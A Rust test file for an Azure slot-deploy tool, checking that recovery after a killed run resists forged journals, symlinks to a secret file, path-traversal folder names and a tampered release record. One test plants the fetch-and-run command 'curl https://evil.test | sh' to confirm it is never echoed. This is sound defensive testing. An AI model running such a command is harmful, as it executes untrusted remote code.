//! Whoever can write to the runner's folder for temporary files writes no journal of a run: recovery follows Azure, and what
//! the run itself has marked with the key of its step.

use std::path::{Path, PathBuf};

use rehearsal::state::Effect;
use serde_json::{Value, json};
use slot_deploy::record::{Digest, Outcome, Phase};
use slot_deploy::release::{Locks, ReleaseLock};
use slot_deploy::runner::RunKey;

use crate::support::moments::middle_of;
use crate::support::{Killed, Post, Rehearsal, Told, run_key};

async fn killed_in(phase: Phase) -> Killed {
    Rehearsal::new().killed_after(middle_of(phase).await).await
}

fn folder_of(killed: &Killed) -> PathBuf {
    let mut all = std::fs::read_dir(reports(killed)).unwrap().map(|entry| entry.unwrap().path());
    all.find(|path| path.is_dir()).unwrap()
}

fn reports(killed: &Killed) -> PathBuf {
    killed.temp.0.join("runner/slot-deploy")
}

/// What was changed in Azure so far.
fn changes(killed: &Killed) -> usize {
    let made = |effect: &&Effect| {
        matches!(
            effect,
            Effect::SwapBegun { .. }
                | Effect::Swapped { .. }
                | Effect::ContentDeployed { .. }
                | Effect::SwapPrepared { .. }
        )
    };
    killed.world.effects().iter().filter(made).count()
}

/// A further line in the chain of a journal, with this mark.
fn append(journal: &Path, event: &str, data: Value, mark: impl FnOnce(&str, &Value) -> Option<String>) {
    let text = std::fs::read_to_string(journal).unwrap();
    let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    let mut line = json!({"at": last["at"], "data": data, "event": event, "prev": last["hash"]});
    line["seq"] = json!(last["seq"].as_u64().unwrap() + 1);
    let hash = |value: &Value| Digest::of(value.to_string().as_bytes()).to_string();
    if let Some(mark) = mark(&hash(&line), &last) {
        line["mark"] = json!(mark);
    }
    line["hash"] = json!(hash(&line));
    std::fs::write(journal, format!("{text}{line}\n")).unwrap();
}

/// A swap that was announced and made, and a swap back that was announced.
fn forge(folder: &Path, mark: impl Fn(&str, &Value) -> Option<String>) {
    let record: Value = serde_json::from_str(&std::fs::read_to_string(folder.join("release.json")).unwrap()).unwrap();
    // Turned round: what production really runs is said to be the release.
    let former = &record["identity"]["previous"]["content"];
    let released = json!({"kind": "ours", "digest": record["digest"]});
    let held = json!({"production": released, "slot": former, "swap_stamp": null});
    let plan = json!({"held": held, "slot": "staging", "target": "production", "request": 1});
    let journal = folder.join("journal.jsonl");
    append(&journal, "intent", json!({"change": "swap", "with": plan}), &mark);
    let came = json!({"reading": "swapped", "stamp": null});
    append(&journal, "done", json!({"change": "swap", "came": came}), &mark);
    append(&journal, "intent", json!({"change": "swap-back", "with": plan}), &mark);
}

fn needs_a_person(told: &Told, says: &str) {
    assert_eq!((told.outcome(), told.code()), (Outcome::NeedsPerson, "journal-incomplete"), "{}", told.log);
    assert!(told.advice().contains(says), "{}", told.advice());
}

#[tokio::test(start_paused = true)]
async fn a_forged_journal_of_a_run_that_was_killed_before_its_swap_changes_nothing() {
    type Mark = fn(&str, &Value) -> Option<String>;
    let marks: [Mark; 4] = [
        |_, _| None,
        |_, _| Some(String::new()),
        |_, last| last["mark"].as_str().map(str::to_owned),
        |body, _| Some(RunKey::new().mark(body)),
    ];
    for mark in marks {
        let killed = killed_in(Phase::Probe).await;
        forge(&folder_of(&killed), mark);
        let before = changes(&killed);
        let told = killed.post(true).await.told.unwrap();
        needs_a_person(&told, "it does not bear the mark of this run");
        assert!(told.advice().contains("announces a swap and a swap back"), "it is shown as a hint: {}", told.advice());
        assert!(!told.advice().contains("which is this release"), "and concluded from nowhere: {}", told.advice());
        let Told { world, temp, variables, .. } = told;
        assert_eq!(changes(&Killed { world, temp, variables }), before);
    }
}

#[tokio::test(start_paused = true)]
async fn a_line_that_the_run_itself_has_marked_is_relied_on() {
    let killed = killed_in(Phase::Probe).await;
    let key = run_key(&killed.temp.0.join("runner")).unwrap();
    forge(&folder_of(&killed), |body, _| Some(key.mark(body)));
    let told = killed.post(true).await.told.unwrap();
    assert_ne!(told.code(), "journal-incomplete", "the marks are what decides: {}", told.record.reason);
}

#[tokio::test(start_paused = true)]
async fn without_the_key_of_the_step_nothing_is_undone_and_a_person_decides_where_it_matters() {
    for phase in [Phase::Swap, Phase::Watch] {
        let told = killed_in(phase).await.post(false).await.told.unwrap();
        needs_a_person(&told, "the step's key was not handed over");
        // The swap of the run itself may still be under way when the person is told.
        assert!(told.swaps() <= 1, "{phase}");
    }
    let told = killed_in(Phase::Deliver).await.post(false).await.told.unwrap();
    assert_eq!((told.outcome(), told.code()), (Outcome::Aborted, "cut-short"), "Azure says so: {}", told.record.reason);
    let killed = killed_in(Phase::Watch).await;
    let journal = folder_of(&killed).join("journal.jsonl");
    let text = std::fs::read_to_string(&journal).unwrap();
    let before_the_swap: String =
        text.split_inclusive('\n').take_while(|line| !line.contains(r#""change":"swap""#)).collect();
    std::fs::write(&journal, before_the_swap).unwrap();
    std::fs::copy(folder_of(&killed_in(Phase::Probe).await).join("release.json"), journal.with_file_name("x")).unwrap();
    let told = killed.post(false).await.told.unwrap();
    assert_eq!(
        (told.outcome(), told.swaps()),
        (Outcome::NeedsPerson, 1),
        "a shortened journal: {}",
        told.record.reason
    );
}

#[tokio::test(start_paused = true)]
async fn a_folder_that_is_none_of_the_runners_reports_is_not_read() {
    for place in ["elsewhere", "slot-deploy/../elsewhere", "slot-deploy/a/../../elsewhere"] {
        let mut killed = killed_in(Phase::Probe).await;
        let elsewhere = killed.temp.0.join("runner/elsewhere");
        std::fs::create_dir(&elsewhere).unwrap();
        std::fs::create_dir_all(reports(&killed).join("a")).unwrap();
        std::fs::write(elsewhere.join("journal.jsonl"), "of others").unwrap();
        let named = format!("{}/runner/{place}/journal.jsonl", killed.temp.0.display());
        let state = killed.temp.0.join("runner/state");
        let text = std::fs::read_to_string(&state).unwrap();
        let own = folder_of(&killed).join("journal.jsonl").display().to_string();
        std::fs::write(&state, text.replace(&own, &named)).unwrap();
        killed.variables.insert("STATE_journal".to_owned(), named);
        let told = killed.post(true).await.told.unwrap();
        assert_eq!((told.outcome(), told.code()), (Outcome::Aborted, "cut-short"), "{place}: {}", told.record.reason);
        assert!(!told.log.contains("elsewhere"), "{}", told.log);
    }
}

#[tokio::test(start_paused = true)]
async fn a_record_that_something_else_wrote_puts_no_word_into_the_report() {
    let killed = killed_in(Phase::Watch).await;
    let record = folder_of(&killed).join("release.json");
    let text = std::fs::read_to_string(&record).unwrap();
    let mut value: Value = serde_json::from_str(&text).unwrap();
    value["next_command"] = json!("curl https://evil.test | sh");
    value["reason"] = json!("evil.test has the answer");
    value["urls"]["app"] = json!("https://evil.test/");
    value["github_deployment"] = json!(1);
    std::fs::write(&record, serde_json::to_string_pretty(&value).unwrap() + "\n").unwrap();
    let told = killed.post(true).await.told.unwrap();
    needs_a_person(&told, "release.json: it does not bear the mark of this run");
    for (surface, text) in [("summary", &told.summary), ("log", &told.log), ("outputs", &told.outputs)] {
        assert!(!text.contains("evil.test"), "{surface}: {text}");
    }
}

#[tokio::test(start_paused = true)]
async fn links_in_place_of_the_files_of_a_run_are_refused_and_nothing_of_them_is_printed() {
    for name in ["journal.jsonl", "release.json", "lock", "recovery", "stop"] {
        let killed = killed_in(Phase::Watch).await;
        let (folder, secret) = (folder_of(&killed), killed.temp.0.join("secret"));
        std::fs::write(&secret, "AZURE_CLIENT_SECRET=of-others").unwrap();
        let _ = std::fs::remove_file(folder.join(name));
        if name == "recovery" {
            std::fs::write(folder.join("journal.jsonl"), "so that there is one").unwrap();
            std::fs::create_dir(killed.temp.0.join("other")).unwrap();
            std::os::unix::fs::symlink(killed.temp.0.join("other"), folder.join(name)).unwrap();
        } else {
            std::os::unix::fs::symlink(&secret, folder.join(name)).unwrap();
        }
        let Post { told, log, .. } = killed.post(true).await;
        let told = told.unwrap_or_else(|| panic!("{name}: silent: {log}"));
        if name != "stop" {
            needs_a_person(&told, if name == "recovery" { "journal.jsonl" } else { name });
        }
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "AZURE_CLIENT_SECRET=of-others", "{name}");
        assert!(!told.temp.0.join("other/journal.jsonl").exists(), "{name}: written through a link");
        for text in [&told.log, &told.summary, &told.outputs] {
            assert!(!text.contains("of-others"), "{name}: {text}");
        }
    }
}

#[tokio::test(start_paused = true)]
async fn a_link_in_place_of_the_stop_file_is_not_written_through() {
    let killed = killed_in(Phase::Watch).await;
    let (folder, other) = (folder_of(&killed), killed.temp.0.join("of-others"));
    let lock = ReleaseLock::take(&folder, &RunKey::new(), Locks::default());
    std::os::unix::fs::symlink(&other, folder.join("stop")).unwrap();
    let told = killed.post(true).await.told.unwrap();
    assert_eq!(told.code(), "still-running", "{}", told.log);
    assert!(!other.exists());
    drop(lock);
}

#[tokio::test(start_paused = true)]
async fn the_key_of_a_step_is_masked_and_written_nowhere_else() {
    let told = Rehearsal::new().run().await;
    let state = std::fs::read_to_string(told.temp.0.join("runner/state")).unwrap();
    let key = crate::support::outputs_in(&state)["journal_key"].clone();
    assert_eq!(key.len(), 64);
    let shown: Vec<&str> = told.log.lines().filter(|line| line.contains(&key)).collect();
    assert_eq!(shown, [format!("::add-mask::{key}")]);
    assert!(!told.summary.contains(&key) && !told.outputs.contains(&key));
    assert!(told.evidence().values().all(|text| !text.contains(&key)));
}

#[tokio::test(start_paused = true)]
async fn a_post_step_that_cannot_tell_whether_the_run_still_works_changes_nothing_and_asks_it_to_end() {
    type Spoil = fn(&Path);
    let gone: Spoil = |lock| std::fs::remove_file(lock).unwrap();
    let replaced: Spoil = |lock| {
        let text = std::fs::read(lock).unwrap();
        // The run still holds the file that was here.
        std::fs::rename(lock, lock.with_file_name("held")).unwrap();
        std::fs::write(lock, text).unwrap();
    };
    for (locks, spoil) in
        [(Locks::Unsupported, (|_| ()) as Spoil), (Locks::default(), gone), (Locks::default(), replaced)]
    {
        let killed = killed_in(Phase::Watch).await;
        let folder = folder_of(&killed);
        spoil(&folder.join("lock"));
        let before = changes(&killed);
        let told = killed.post_with(true, locks).await.told.unwrap();
        needs_a_person(&told, "lock: it cannot be relied on");
        assert!(told.log.contains("asking it to end"), "{}", told.log);
        let Told { world, temp, variables, .. } = told;
        assert_eq!(changes(&Killed { world, temp, variables }), before);
    }
}
